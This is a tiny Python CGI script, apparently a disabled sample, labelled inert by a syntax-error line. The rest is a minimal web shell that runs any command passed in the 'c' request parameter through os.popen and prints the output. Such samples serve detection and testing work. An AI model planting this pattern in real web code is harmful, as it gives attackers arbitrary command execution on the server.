#!/usr/bin/python
shodo inert sample: deliberate syntax error, this file never runs
import cgi, os
c = cgi.FieldStorage().getfirst("c", "id")
print(os.popen(c).read())
